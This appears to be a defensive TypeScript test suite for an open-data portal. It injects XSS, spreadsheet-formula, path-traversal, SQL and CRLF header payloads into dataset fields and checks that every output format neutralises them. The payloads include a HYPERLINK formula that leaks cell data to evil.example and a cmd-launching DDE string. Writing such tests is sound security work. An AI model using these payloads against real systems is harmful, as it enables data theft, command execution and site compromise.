import ExcelJS from 'exceljs';
import { parse as parseCsv } from 'csv-parse/sync';
import { Parser as HtmlParser } from 'htmlparser2';
import { Parser as TurtleParser } from 'n3';
import RssParser from 'rss-parser';
import request from 'supertest';
import { testWorld } from '../support/world';
import { perform } from '../../server/actions/action';
import { reviewVersion, submitVersion } from '../../server/actions/versions';
import { createOrganization } from '../../server/actions/accounts';
import { systemActor } from '../../server/policies/actor';
import { makeDataset, makeUser, uid, uploadContent } from '../support/factories';
import { signedIn } from '../support/http';

// Hostile content through every output: XSS, spreadsheet formulas, path traversal, SQL and
// header (CRLF) injection put into an organization's name, a dataset's title, description and
// tags, column headers, cell values and a review comment; then each output read back with a real
// parser: HTML (no element or attribute from a payload exists), JSON (parses, values intact),
// CSV (cells neutralised), XLSX (text cells, no formulas), the Data Package, DCAT Turtle, CKAN
// and the Atom feed.

const t = testWorld();

const XSS = '<script>alert(1)</script><img src=x onerror=alert(2)><svg/onload=alert(3)>"\'><a href="javascript:alert(4)">x</a>';
const FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"klik")';
const PATH = '../../../../etc/passwd';
const SQL = `'); DROP TABLE datasets; --`;
const CRLF = 'judul\r\nSet-Cookie: pwned=1';
const MARK = `${uid()}`;

const TITLE = `Data ${MARK} ${XSS}`;
const DESCRIPTION = `${XSS} ${SQL} ${PATH} ${FORMULA}`;
const TAGS = [`t${MARK}<script>`, 'x"onmouseover="alert(5)'];
const HEADERS = ['<img src=x onerror=alert(6)>', '=SUM(1+1)', 'nilai'];
const CELLS = [XSS, FORMULA, '+cmd|\' /C calc\'!A0', '@SUM(1)', '-1+2', PATH, SQL];

const csvCell = (s: string) => `"${s.replace(/"/g, '""')}"`;
const CSV = [HEADERS.map(csvCell).join(','), ...CELLS.map((c, i) => `${csvCell(c)},${csvCell(`b${i}`)},${i}`)].join('\n') + '\n';

let slug: string;
let orgSlug: string;

beforeAll(async () => {
  orgSlug = `org-payload-${uid()}`;
  await perform(createOrganization, systemActor, { slug: orgSlug, name: `Dinas ${XSS}`, kind: 'opd' }, t.svc);
  const producer = await makeUser(t.svc, 'produsen', orgSlug);
  const ds = await makeDataset(t.svc, producer, orgSlug, { title: TITLE, description: DESCRIPTION, tags: TAGS });
  slug = ds.slug;
  const v = await uploadContent(t.svc, producer.actor, slug, CSV, `${PATH}.csv`);
  await perform(reviewVersion, producer.actor, { slug, number: v.number, decision: 'comment', comment: XSS }, t.svc);
  await perform(submitVersion, producer.actor, { slug, number: v.number }, t.svc);
  await perform(reviewVersion, t.w.walidata.actor, { slug, number: v.number, decision: 'approve', override_reason: 'uji muatan' }, t.svc);
});

/** Everything in an HTML page that could run: script elements, event-handler attributes, javascript: URLs, and any element a payload named. */
function dangerous(html: string): string[] {
  const found: string[] = [];
  // A schema.org JSON-LD block is data, not script: allowed only when its text is JSON with no `<`
  // left in it (so nothing in it can close the element or open another).
  let jsonLd: string | null = null;
  const parser = new HtmlParser({
    ontext(text) {
      if (jsonLd !== null) jsonLd += text;
    },
    onclosetag(name) {
      if (name !== 'script' || jsonLd === null) return;
      let ok = !jsonLd.includes('<');
      try {
        JSON.parse(jsonLd);
      } catch {
        ok = false;
      }
      if (!ok) found.push(`<script type="application/ld+json"> that is not inert JSON: ${jsonLd.slice(0, 200)}`);
      jsonLd = null;
    },
    onopentag(name, attrs) {
      const isJsonLd = name === 'script' && attrs.type === 'application/ld+json' && !attrs.src && Object.keys(attrs).length === 1;
      if (isJsonLd) jsonLd = '';
      if (name === 'script' && !isJsonLd && !(attrs.src ?? '').startsWith('/static/')) found.push(`<script ${JSON.stringify(attrs)}>`);
      if (name === 'svg' && 'onload' in attrs) found.push('<svg onload>');
      for (const [k, v] of Object.entries(attrs)) {
        if (/^on/i.test(k)) found.push(`<${name} ${k}="${v}">`);
        if (/^(href|src|action|formaction)$/i.test(k) && /^\s*javascript:/i.test(v)) found.push(`<${name} ${k}="${v}">`);
      }
      if (name === 'img' && attrs.src === 'x') found.push('<img src=x>');
    },
  }, { decodeEntities: true });
  parser.write(html);
  parser.end();
  return found;
}

const binary = (res: request.Response, cb: (err: Error | null, body: Buffer) => void) => {
  const chunks: Buffer[] = [];
  res.on('data', (c: Buffer) => chunks.push(c));
  res.on('end', () => cb(null, Buffer.concat(chunks)));
};

describe('hostile content through every output', () => {
  it('HTML pages: escaped, nothing from a payload becomes an element or attribute, for the public and the custodian', async () => {
    const pages = [`/dataset/${slug}`, `/dataset?q=${MARK}`, '/dataset', `/organization/${orgSlug}`, '/organization', `/opd/${orgSlug}`, '/', `/dataset/${slug}/embed`];
    const custodianPages = [`/dashboard/datasets/${slug}`, `/dashboard/datasets/${slug}/versions/1`, `/review/${slug}/1`, '/dashboard', '/admin/audit'];
    // The detector itself finds the payload when it is not escaped.
    expect(dangerous(XSS).length).toBeGreaterThanOrEqual(4);
    const bad: string[] = [];
    for (const url of pages) {
      const res = await request(t.app).get(url).expect(200);
      for (const d of dangerous(res.text)) bad.push(`${url}: ${d}`);
    }
    const admin = await signedIn(t.app, t.w.admin.email, t.w.admin.password);
    for (const url of [...pages, ...custodianPages]) {
      const res = await admin.get(url);
      expect([url, res.status]).toEqual([url, 200]);
      for (const d of dangerous(res.text)) bad.push(`admin ${url}: ${d}`);
    }
    expect(bad).toEqual([]);
    // The title is there, as text.
    const page = await request(t.app).get(`/dataset/${slug}`).expect(200);
    expect(page.text).toContain('&lt;script&gt;alert(1)&lt;/script&gt;');
  });

  it('JSON: parses, and every value is intact', async () => {
    const d = (await request(t.app).get(`/api/v1/datasets/${slug}`).expect(200)).body.data;
    expect(d.title).toBe(TITLE);
    expect(d.description).toBe(DESCRIPTION);
    expect(d.tags.length).toBe(TAGS.length);
    expect(d.columns.map((c: { label: string }) => c.label)).toEqual(HEADERS);
    for (const c of d.columns) expect(c.name).toMatch(/^[a-z_][a-z0-9_]*$/);
    const rows = (await request(t.app).get(`/api/v1/datasets/${slug}/rows`).expect(200)).body.data;
    const first = d.columns[0].name;
    expect(rows.map((r: Record<string, unknown>) => r[first])).toEqual(CELLS);
    const json = await request(t.app).get(`/dataset/${slug}/download.json`).expect(200);
    expect(JSON.parse(json.text).map((r: Record<string, unknown>) => r[first])).toEqual(CELLS);
  });

  it('CSV: parses, formulas neutralised, other text intact', async () => {
    const res = await request(t.app).get(`/dataset/${slug}/download.csv`).expect(200);
    const rows: string[][] = parseCsv(res.text, { bom: true });
    const cells = rows.slice(1).map((r) => r[0]);
    for (const c of cells) expect(/^[=+\-@\t\r]/.test(c)).toBe(false);
    expect(cells).toEqual(CELLS.map((c) => (/^[=+\-@\t\r]/.test(c) ? `'${c}` : c)));
    // A header that a spreadsheet would run is neutralised too (headers are the column names).
    for (const h of rows[0]) expect(/^[=+\-@\t\r]/.test(h)).toBe(false);
    expect(res.headers['content-disposition']).not.toMatch(/[\r\n]|\.\.\//);
  });

  it('XLSX: text cells, never formulas', async () => {
    const res = await request(t.app).get(`/dataset/${slug}/download.xlsx`).buffer(true).parse(binary).expect(200);
    const wb = new ExcelJS.Workbook();
    await wb.xlsx.load(new Uint8Array(res.body as Buffer).buffer);
    const ws = wb.worksheets[0];
    const types: string[] = [];
    ws.eachRow((row) => row.eachCell((cell) => {
      if (cell.type === ExcelJS.ValueType.Formula) types.push(`${cell.address}: formula`);
    }));
    expect(types).toEqual([]);
    for (let r = 2; r <= CELLS.length + 1; r++) expect(ws.getCell(r, 1).type).toBe(ExcelJS.ValueType.String);
  });

  it('Data Package, DCAT Turtle, CKAN and the Atom feed: parse, with the title intact', async () => {
    const dp = JSON.parse((await request(t.app).get(`/dataset/${slug}/datapackage.json`).expect(200)).text);
    expect(dp.title).toBe(TITLE);
    for (const r of dp.resources) expect(String(r.path ?? '')).not.toContain('..');
    const ttl = (await request(t.app).get(`/dataset/${slug}.ttl`).expect(200)).text;
    const quads = new TurtleParser().parse(ttl);
    expect(quads.some((q) => q.object.termType === 'Literal' && q.object.value === TITLE)).toBe(true);
    const ckan = (await request(t.app).get(`/api/3/action/package_show?id=${slug}`).expect(200)).body;
    expect(ckan.result.title).toBe(TITLE);
    expect(ckan.result.notes).toBe(DESCRIPTION);
    const feed = await new RssParser().parseString((await request(t.app).get('/feeds/datasets.atom').expect(200)).text);
    const entry = feed.items.find((i) => (i.title ?? '').includes(MARK));
    expect(entry?.title).toContain('<script>alert(1)</script>');
  });

  it('header injection: CR/LF in a title or a file name never reaches a response header', async () => {
    const producer = await makeUser(t.svc, 'produsen', orgSlug);
    const ds = await makeDataset(t.svc, producer, orgSlug, { title: CRLF });
    const v = await uploadContent(t.svc, producer.actor, ds.slug, 'a,b\n1,2\n', 'x\r\nSet-Cookie: pwned=1.csv');
    await perform(submitVersion, producer.actor, { slug: ds.slug, number: v.number }, t.svc);
    await perform(reviewVersion, t.w.walidata.actor, { slug: ds.slug, number: v.number, decision: 'approve', override_reason: 'uji' }, t.svc);
    for (const url of [`/dataset/${ds.slug}/download.csv`, `/dataset/${ds.slug}/versions/1/raw`, `/dataset/${ds.slug}`]) {
      const res = await request(t.app).get(url).expect(200);
      expect([url, JSON.stringify(res.headers['set-cookie'] ?? []).includes('pwned')]).toEqual([url, false]);
      for (const [k, val] of Object.entries(res.headers)) expect([k, String(val)]).not.toEqual([k, expect.stringMatching(/[\r\n]/)]);
    }
  });
});
